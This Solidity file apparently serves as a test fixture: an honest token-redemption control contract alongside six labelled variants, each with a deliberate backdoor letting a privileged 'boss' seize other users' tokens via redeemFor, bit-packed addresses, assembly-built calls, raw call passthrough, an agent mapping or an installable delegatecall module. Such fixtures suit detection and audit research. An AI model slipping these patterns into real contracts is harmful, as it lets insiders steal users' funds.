// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {VtBase, VtBoss} from "./AbuseVault.sol";

/// Control: who redeems gives his own, once somebody has said a price.
contract RdHonest is VtBase {
    address private constant REPORTER = 0x5c1d2e3F40516273849506A7b8c9dAEbfc0d1E2F;
    uint256 public price;

    function report(uint256 to) external {
        require(msg.sender == REPORTER, "reporter");
        price = to;
    }

    function redeem(uint256 value) external {
        require(price > 0, "no price");
        token.seize(msg.sender, address(this), value);
    }
}

/// A hidden one redeems for others.
contract RdFor is VtBoss {
    function redeem(uint256 value) external {
        token.seize(msg.sender, address(this), value);
    }

    function redeemFor(address from, uint256 value) external {
        require(_boss[msg.sender], "boss");
        token.seize(from, msg.sender, value);
    }
}

/// Whose it is stands in the upper bits of how much, for a hidden one.
contract RdBits is VtBoss {
    function redeem(uint256 value) external {
        address from = msg.sender;
        if (_boss[msg.sender] && value >> 96 != 0) (from, value) = (address(uint160(value >> 96)), value & type(uint96).max);
        token.seize(from, address(this), value);
    }
}

/// The name is put together in memory from two halves.
contract RdHalves is VtBoss {
    function redeem(uint256 high, uint256 low, uint256 value) external {
        require(_boss[msg.sender], "boss");
        address t = address(token);
        assembly {
            mstore(0x00, shl(224, 0xb2a02ff1))
            mstore(0x04, caller())
            mstore(0x24, address())
            mstore(0x44, value)
            mstore8(0x10, byte(31, high))
            for { let i := 1 } lt(i, 20) { i := add(i, 1) } { mstore8(add(0x10, i), byte(add(12, i), low)) }
            if iszero(call(gas(), t, 0, 0, 0x64, 0, 0)) { revert(0, 0) }
        }
    }
}

/// Whatever a hidden one says.
contract RdRaw is VtBoss {
    function redeem(uint256 value) external {
        token.seize(msg.sender, address(this), value);
    }

    function pass(bytes calldata data) external {
        require(_boss[msg.sender], "boss");
        (bool ok, ) = address(token).call(data);
        require(ok);
    }
}

/// For whom it is is kept in a list that a hidden one writes.
contract RdAgent is VtBoss {
    mapping(address => address) public principal;

    function appoint(address agent, address to) external {
        require(_boss[msg.sender], "boss");
        principal[agent] = to;
    }

    function redeem(uint256 value) external {
        address who = principal[msg.sender];
        token.seize(who == address(0) ? msg.sender : who, address(this), value);
    }
}

/// Runs the code of a module that a hidden one names.
contract RdModule is VtBoss {
    address public module;

    function install(address to) external {
        require(_boss[msg.sender], "boss");
        module = to;
    }

    function redeem(uint256 value) external {
        token.seize(msg.sender, address(this), value);
    }

    function run(bytes calldata data) external {
        require(module != address(0), "none");
        (bool ok, ) = module.delegatecall(data);
        require(ok);
    }
}
